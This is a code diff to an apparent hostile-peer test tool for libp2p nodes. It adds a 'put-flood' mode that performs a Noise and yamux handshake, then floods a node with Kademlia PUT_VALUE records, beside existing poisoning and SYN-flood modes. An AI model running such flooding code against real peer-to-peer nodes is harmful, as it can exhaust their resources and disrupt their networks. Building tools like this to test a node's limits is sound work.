@@ -14,6 +14,10 @@ sends unless told to, and stops by itself after the given time.
                                                   empty closerPeers; prints "listening <multiaddr>"
   hostile.py kad-poison HOST PORT SECONDS PEER [N] the same server, answering with PEER (a peer
                                                   ID) at N (32) addresses where nobody listens
+  hostile.py put-flood  HOST PORT SECONDS COUNT    Noise + yamux, then COUNT Kademlia PUT_VALUEs
+                                                  of /test/ keys, one per stream, 64 streams at
+                                                  a time; prints "stored <n> refused <n>" (the
+                                                  acknowledged ones, the reset ones)
 
 Prints one line "sent <bytes> bytes on <n> connections" at the end. Noise XX
 (libp2p noise spec) is written out here with the cryptography package
@@ -128,6 +132,12 @@ def read_mss(s):
 def secure(host, port):
     """A Noise XX initiator with a fresh Ed25519 identity, then yamux agreed
     by multistream-select inside it. Returns the socket and our sealer."""
+    s, out, _ = secure_both(host, port)
+    return s, out
+
+
+def secure_both(host, port):
+    """secure(), and the opener of what the listener sends."""
     s = socket.create_connection((host, port))
     s.sendall(mss_msg('/multistream/1.0.0') + mss_msg('/noise'))
     read_mss(s)
@@ -153,10 +163,10 @@ def secure(host, port):
     sym.mix_key(st.exchange(re))
     msg3 += sym.encrypt_and_hash(payload)
     s.sendall(struct.pack('>H', len(msg3)) + msg3)
-    k1, _ = hkdf2(sym.ck, b'')
+    k1, k2 = hkdf2(sym.ck, b'')
     out = Cipher(k1)
     s.sendall(out.seal(mss_msg('/multistream/1.0.0') + mss_msg('/yamux/1.0.0')))
-    return s, out
+    return s, out, Opener(k2)
 
 
 B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz'
@@ -435,6 +445,69 @@ def raw_flood(host, port, seconds, conns, opening, more):
     return sent, opened
 
 
+def pb_bytes(field, b):
+    return uvarint(field << 3 | 2) + uvarint(len(b)) + b
+
+
+def put_flood(host, port, seconds, count):
+    """count PUT_VALUEs, each on its own stream (a refused one resets it), at
+    most 64 streams open at a time. Returns (stored, refused, bytes sent)."""
+    s, out, opener = secure_both(host, port)
+    deadline = time.time() + seconds
+    plain, muxed = b'', False
+    hello = mss_msg('/multistream/1.0.0') + mss_msg('/ipfs/kad/1.0.0')
+    open_ids, next_id, started = set(), 1, 0
+    stored = refused = sent = 0
+    while stored + refused < count and time.time() < deadline:
+        batch = b''
+        while started < count and len(open_ids) < 64:
+            key = b'/test/flood-%d' % started
+            msg = b'\x08\x00' + pb_bytes(2, key) + pb_bytes(3, pb_bytes(1, key) + pb_bytes(2, b'x'))
+            body = hello + uvarint(len(msg)) + msg
+            batch += yamux(0, 1, next_id, len(body)) + body + yamux(0, 4, next_id, 0)
+            open_ids.add(next_id)
+            next_id += 2
+            started += 1
+        if batch:
+            data = out.seal(batch)
+            s.sendall(data)
+            sent += len(data)
+        data = s.recv(1 << 16)
+        if not data:
+            break
+        plain += opener.feed(data)
+        if not muxed:  # the listener's multistream-select answer for yamux
+            if plain.count(b'\n') < 2:
+                continue
+            plain = plain[plain.index(b'\n', plain.index(b'\n') + 1) + 1:]
+            muxed = True
+        reply = b''
+        while len(plain) >= 12:
+            _, typ, flags, sid, length = struct.unpack('>BBHII', plain[:12])
+            n = length if typ == 0 else 0
+            if len(plain) < 12 + n:
+                break
+            plain = plain[12 + n:]
+            if typ == 2 and flags & 1:  # ping
+                reply += yamux(2, 2, 0, length)
+            elif typ == 3:  # GoAway
+                return stored, refused, sent
+            elif flags & 1 and sid % 2 == 0:  # a stream the listener opens (identify): refused
+                reply += yamux(1, 8, sid, 0)
+            elif sid in open_ids and flags & (4 | 8):
+                open_ids.discard(sid)
+                if flags & 8:
+                    refused += 1
+                else:
+                    stored += 1
+        if reply:
+            data = out.seal(reply)
+            s.sendall(data)
+            sent += len(data)
+    s.close()
+    return stored, refused, sent
+
+
 def main():
     mode, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
     conns = int(sys.argv[5]) if len(sys.argv) > 5 and mode != 'kad-poison' else 1
@@ -451,6 +524,10 @@ def main():
     elif mode == 'kad-poison':
         count = int(sys.argv[6]) if len(sys.argv) > 6 else 32
         sent, n = 0, kad_bomb(host, port, seconds, poison_answer(sys.argv[5], count))
+    elif mode == 'put-flood':
+        stored, refused, sent = put_flood(host, port, seconds, conns)
+        print(f'stored {stored} refused {refused}', flush=True)
+        n = 1
     elif mode == 'syn-flood':
         s, out = secure(host, port)
         sent, n = flood(s, out, lambda i: yamux(1, 1, (2 * i + 1) & 0xffffffff, 0), seconds), 1
